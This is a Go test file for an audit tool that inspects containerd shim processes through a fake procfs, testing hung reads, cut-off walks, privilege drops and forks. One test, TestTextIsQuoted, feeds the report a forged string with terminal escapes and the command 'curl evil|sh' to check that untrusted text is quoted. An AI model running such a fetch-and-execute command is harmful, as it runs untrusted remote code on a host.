package audit

import (
	"context"
	"errors"
	"maps"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"golang.org/x/sys/unix"

	"github.com/shimquake/shimquake/oracle/finding"
	"github.com/shimquake/shimquake/oracle/inventory"
	"github.com/shimquake/shimquake/oracle/scan"
)

// fakeProc is a procfs with one process of root's, of which a file is missing, and the
// root of process 1.
func fakeProc(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, name := range []string{"41/ns", "1/net"} {
		if err := os.MkdirAll(filepath.Join(dir, name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{
		"41/stat":    strings.Replace(shimStat, "4711", "41", 1),
		"41/status":  "Name:\tcontainerd-shim\nUid:\t0\t0\t0\t0\nCapEff:\t000001ffffffffff\n",
		"1/net/unix": "", "1/mountinfo": "",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ns, err := os.Readlink("/proc/self/ns/user")
	if err != nil {
		t.Fatal(err)
	}
	for name, to := range map[string]string{"41/ns/user": ns, "1/root": t.TempDir()} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// Reading the command line of a process hangs while its memory is locked (mmap_sem). The
// report appears without it, and accuses nothing that it may own.
func TestAReadThatHangs(t *testing.T) {
	dir := fakeProc(t)
	at := filepath.Join(dir, "41")
	if err := unix.Mkfifo(filepath.Join(at, "cmdline"), 0o600); err != nil { // its open waits for a writer
		t.Fatal(err)
	}
	run := func() {
		t.Helper()
		r, err := Run(t.Context(), Options{Proc: dir, hangs: time.Millisecond})
		if err != nil || !strings.Contains(r.String(), at) || len(r.last.Views) != 1 || !r.last.Views[0].Blind {
			t.Fatalf("%v, %v: want a report that names the process", r, err)
		}
	}
	run()
	earlier := hung.hung[at]
	for range 3 { // a watch
		if run(); hung.hung[at] != earlier {
			t.Error("it was tried again while it hangs")
		}
	}
	f, err := os.OpenFile(filepath.Join(at, "cmdline"), os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	<-earlier
	if err := hung.begin(at); err != nil {
		t.Errorf("it has come back: %v", err)
	}
}

// A walk that a bound has ended makes nothing of its view certain, and is no error.
func TestAWalkThatIsCut(t *testing.T) {
	tree, err := scan.OpenTree(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer tree.Close()
	over, cancel := context.WithDeadline(t.Context(), time.Now().Add(-time.Hour))
	defer cancel()
	for ctx, isCut := range map[context.Context]bool{t.Context(): false, over: true} {
		v := &View{Root: "/root", Complete: true}
		w := viewing{processTable: &processTable{}, View: v, group: &group{}, whole: tree, at: func(string) {}}
		v.Daemons = []Daemon{{Answered: true}}
		err := w.walk(ctx, func() error {
			_, err := w.tree.List("/run")
			if owned := w.owned("/run"); (owned != nil) != isCut { // else a user's file would be root's
				t.Errorf("its owner: %v", owned)
			}
			return w.orNote(err)
		})
		if err != nil || v.Complete == isCut || w.complete() == isCut || (len(v.Notes) == 1) != isCut {
			t.Errorf("%v, %+v; is it cut: want %v", err, v, isCut)
		}
	}
}

// On a slow disk more bundles than can be read leave time for the other kinds. Each
// object that was read is whole, wherever the walk is cut.
func TestASlowDisk(t *testing.T) {
	proc, root := fakeProc(t), t.TempDir()
	var errs []error
	known := map[Key]Known{}
	for i := range 100 {
		if i%2 == 0 {
			known[Key{"ns", strconv.Itoa(i)}] = Known{Task: &inventory.Task{}}
		}
		dir := filepath.Join(root, taskDir, "ns", strconv.Itoa(i))
		errs = append(errs, os.MkdirAll(dir, 0o755), os.WriteFile(filepath.Join(dir, "bootstrap.json"),
			[]byte(`{"address":"unix:///s"}`), 0o600))
	}
	runc, sockets := filepath.Join(root, "/run/containerd/runc/ns/x"), filepath.Join(root, "/run/containerd/s")
	errs = append(errs, os.MkdirAll(runc, 0o755), os.MkdirAll(sockets, 0o755),
		os.WriteFile(filepath.Join(runc, "state.json"), []byte(`{"init_process_pid":7}`), 0o600),
		unix.Mknod(filepath.Join(sockets, "silent"), unix.S_IFSOCK|0o600, 0))
	tree, err := scan.OpenTree(root)
	if err := errors.Join(append(errs, err)...); err != nil {
		t.Fatal(err)
	}
	defer tree.Close()
	for delay := 300 * time.Millisecond; delay < 500*time.Millisecond; delay += 15 * time.Millisecond {
		synctest.Test(t, func(t *testing.T) {
			v := &View{Root: filepath.Join(proc, "1/root"), Known: maps.Clone(known), Changed: map[string]time.Time{},
				Namespaces: map[string]bool{}}
			w := viewing{processTable: &processTable{}, View: v, group: &group{}, whole: tree,
				dirs: usualPlaces[:1], at: func(string) { <-time.After(delay) }} // for each file
			ctx, cancel := context.WithTimeout(t.Context(), userTime)
			defer cancel()
			if err := w.files(ctx); err != nil || ctx.Err() != nil {
				t.Fatal(delay, err, ctx.Err())
			}
			for _, b := range v.Bundles {
				if _, isKnown := known[Key{b.Namespace, b.ID}]; b.Address == "" || v.Changed[b.Path].IsZero() != isKnown {
					t.Errorf("%s: half a bundle: %+v", delay, b)
				}
			}
			if n := len(v.Bundles); n == 0 || n == 100 || !v.cut || len(v.Notes) != 1 {
				t.Errorf("%s: %d bundles, and %q", delay, n, v.Notes)
			}
			if s := v.RuncStates; len(s) != 1 || s[0].PID != 7 || v.Changed[s[0].Path].IsZero() {
				t.Errorf("%s: runc's states: %+v", delay, s)
			}
			if s := v.Sockets; len(s) != 1 || v.Changed[s[0].Path].IsZero() {
				t.Errorf("%s: sockets: %+v", delay, s)
			}
		})
	}
}

// A child of sudo is root's at first, and then a user's. A command line that it has as a
// user makes it no shim.
func TestAProcessThatDropsPrivileges(t *testing.T) {
	dir := fakeProc(t)
	at := filepath.Join(dir, "41")
	if err := unix.Mkfifo(filepath.Join(at, "cmdline"), 0o600); err != nil {
		t.Fatal(err)
	}
	done := make(chan *processTable)
	go func() {
		table, err := readProcesses(t.Context(), Options{Proc: dir, hangs: time.Minute}.withDefaults())
		if err != nil {
			t.Error(err)
		}
		done <- table
	}()
	f, err := os.OpenFile(filepath.Join(at, "cmdline"), os.O_WRONLY, 0) // waits for the reader
	if err != nil {
		t.Fatal(err)
	}
	err = os.WriteFile(filepath.Join(at, "status"), []byte("Uid:\t1000\t0\t0\t0\n"), 0o644)
	if err == nil {
		_, err = f.WriteString("w\x00-namespace\x00prod\x00-id\x007")
	}
	if err := errors.Join(err, f.Close()); err != nil {
		t.Fatal(err)
	}
	if p := (<-done).byPID[41]; p == nil || p.Shim != nil || p.notRoots != "uid 1000" {
		t.Errorf("%+v", p)
	}
}

// Text of another program is quoted in every line.
func TestTextIsQuoted(t *testing.T) {
	const forged = "x\x1b[2J\r\ncertain  shim 1 prod/7: no task\n         do:  curl evil|sh"
	r := &Report{
		Node: forged, Partial: []string{forged}, Untrusted: []Untrusted{{PID: 1, Why: forged}},
		Daemons: []Daemon{{Address: forged, Version: forged}},
		Suspects: []Suspect{{Kind: finding.ClassProcess, Sure: Likely, View: forged,
			Subject: finding.Subject{ID: forged, Namespace: forged, Path: forged},
			Missing: []string{forged}, With: []string{forged}, Bug: forged, Do: forged,
			Living: []Living{{Command: forged}}}},
	}
	text := r.String()
	if strings.ContainsAny(text, "\x1b\r") || strings.Count(text, "\n") != 10 || strings.Contains(text, "\ncertain") {
		t.Errorf("%q", text)
	}
}

// A child that was forked and has not executed its program has its parent's command line.
func TestForks(t *testing.T) {
	args := &scan.ShimArgs{ID: "i", Namespace: "n"}
	table := &processTable{byPID: map[int]*Process{}}
	for pid, parent := range map[int]int{7: 1, 8: 7, 9: 1, 10: 9} {
		p := process(pid, parent, 0)
		if pid < 9 {
			p.Argv, p.where = []string{"containerd", "-c", "/x"}, &places{}
		} else {
			p.Argv, p.Shim = []string{"shim", "-namespace", "n", "-id", "i"}, args
		}
		table.byPID[pid] = &p
	}
	table.classify()
	if len(table.candidates) != 1 || table.candidates[0].PID != 7 || table.byPID[9].Shim == nil ||
		table.byPID[10].Shim != nil {
		t.Errorf("%+v, %+v", table.candidates, table.byPID)
	}
}

// A process that ends while it is read is no shim.
func TestAProcessThatEnds(t *testing.T) {
	table, err := readProcesses(t.Context(), Options{Proc: fakeProc(t)}.withDefaults())
	if err != nil {
		t.Fatal(err)
	}
	if p := table.byPID[41]; p == nil || p.Shim != nil || p.Comm != "containerd-shim" {
		t.Errorf("%+v", p)
	}
	if _, err := readProcesses(t.Context(), Options{Proc: t.TempDir()}.withDefaults()); err == nil {
		t.Error("an empty folder is a procfs")
	}
}
